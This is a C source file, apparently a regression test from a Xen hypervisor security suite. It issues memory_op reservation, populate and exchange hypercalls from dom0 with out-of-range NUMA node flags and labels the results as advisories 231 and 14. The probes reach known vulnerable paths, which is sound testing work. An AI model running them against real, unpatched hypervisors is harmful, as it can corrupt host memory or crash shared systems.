/* Attacks by advisory number for which a control domain is needed: its wishes for NUMA nodes are listened to. */
#include "story.h"

const char story_title[] = "Attacks by advisory number, of dom0";

enum { XENMEM_increase_reservation = 0, XENMEM_populate_physmap = 6, XENMEM_exchange = 11 };
struct reservation { u64 extents, count; u32 order, flags; u16 domid; };
struct exchange { struct reservation in, out; u64 done; };

static long reserve(u32 op, u32 flags)
{
    static u64 list;
    struct reservation reservation = { (u64)&list, 1, 0, flags, DOMID_SELF };

    list = 400000;
    return HYPERCALL(memory_op, op, &reservation, 0, 0);
}

static long exchange(u32 flags)
{
    static u8 given[PAGE] ON_ITS_PAGE;
    static u64 in, out;
    struct exchange exchange = { { (u64)&in, 1, 0, 0, DOMID_SELF }, { (u64)&out, 1, 0, flags, DOMID_SELF }, 0 };

    in = in ? in : mfn_of(given);
    out = (u64)given / PAGE;
    map(given, 0, 0);
    long result = HYPERCALL(memory_op, XENMEM_exchange, &exchange, 0, 0);
    in = result ? in : out;
    return result;
}

void story(void)
{
    static const u32 nodes[] = { 0, 1, 63, 64, 200, 254 };

    for (unsigned i = 0; i < sizeof(nodes) / sizeof(*nodes); i++) {
        u32 flags = (nodes[i] + 1) << 8;

        say("231: node %u", (u64)nodes[i]);
        say(", increase %d", reserve(XENMEM_increase_reservation, flags));
        say(", populate %d", reserve(XENMEM_populate_physmap, flags));
        say(", exchange %d", exchange(flags));
        say(", exactly: increase %d", reserve(XENMEM_increase_reservation, flags | 1 << 17));
        say(", populate %d", reserve(XENMEM_populate_physmap, flags | 1 << 17));
        say(", exchange %d\n", exchange(flags | 1 << 17));
    }
    say("14: populate on demand: %d\n", reserve(XENMEM_populate_physmap, 1 << 16));
}
